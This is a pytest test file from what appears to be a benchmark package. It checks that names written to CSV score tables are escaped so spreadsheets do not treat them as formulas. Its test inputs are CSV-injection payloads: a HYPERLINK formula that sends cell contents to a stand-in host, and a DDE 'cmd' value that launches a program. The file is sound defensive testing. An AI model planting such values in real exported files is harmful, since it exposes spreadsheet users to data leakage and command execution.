"""Names that users choose, in every CSV file that a spreadsheet may open."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from vdmini_bench.studies.ablation import ArmScore
from vdmini_bench.studies.ablation import write_scores as write_ablation
from vdmini_bench.studies.plan_scores import TABLE, PlanScore, write_plan_scores
from vdmini_bench.system.tables import csv_lines

FORMULA = '=HYPERLINK("http://x/?"&A1)'


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_no_name_is_a_formula(tmp_path: Path, name: str) -> None:
    write_ablation(tmp_path / "scores.csv", [ArmScore(name, 0, name, 1.0, 0.5, 3, "fvd", -1.5, (-2.0, -1.0))])
    write_plan_scores(tmp_path, [PlanScore(name, 1.0, 1.0, None, None, -0.5, 0.1, 0.2, 0.3, 0.4)])
    (arm,), (plan,) = rows_of(tmp_path / "scores.csv"), rows_of(tmp_path / TABLE)
    for cell in (arm["arm"], arm["plan"], plan["plan"]):
        assert cell.startswith("'")
        assert cell.endswith(name.strip())
    # Numbers stay numbers.
    assert (arm["value"], arm["blocks"], plan["fvd_to_teacher"]) == ("-1.5", "-2 -1", "-0.5")
    assert csv_lines([["model"], [name]]).splitlines()[1].lstrip('"').startswith("'")
